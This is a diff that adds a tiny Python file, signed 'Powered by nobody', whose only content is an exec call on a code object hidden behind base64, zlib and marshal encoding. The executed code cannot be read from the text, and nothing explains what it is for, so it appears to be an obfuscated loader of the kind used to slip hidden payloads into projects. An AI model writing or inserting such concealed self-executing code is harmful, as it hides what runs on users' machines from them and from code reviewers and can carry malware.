@@ -1,0 +1,3 @@
+# Powered by nobody
+import marshal,zlib,base64
+exec(marshal.loads(zlib.decompress(base64.b64decode('eJxLZkACzFD6sx6QmM6QwpDCmMMQxcDEkMqQxQhTlMK0DMheDeczAlUFM2gyvwRx/G6xlBSVpmoy3WLKL77FVlxZXJKau5LhM0juF7NNkt0vDpvc/JTSnFS7Ig6wZgaGYlUg8YGZkZHxBgNnAxh2WHYY9VhOCLvILXOFW+YCDBWxAVUCAF9sJNM='))))
